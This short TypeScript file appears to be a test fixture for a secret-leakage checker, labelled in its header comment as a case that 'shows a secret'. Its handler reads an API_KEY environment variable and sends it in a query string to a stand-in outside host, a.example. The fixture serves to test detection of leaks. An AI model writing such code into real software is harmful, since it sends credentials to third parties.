// {"open": {"no_secret_leakage": "shows a secret"}}
import { env } from "purview:env";
export function handler(req: Request): Response {
  return Response.text(fetchSync(`https://a.example/?k=${env("API_KEY") ?? ""}`).statusText);
}
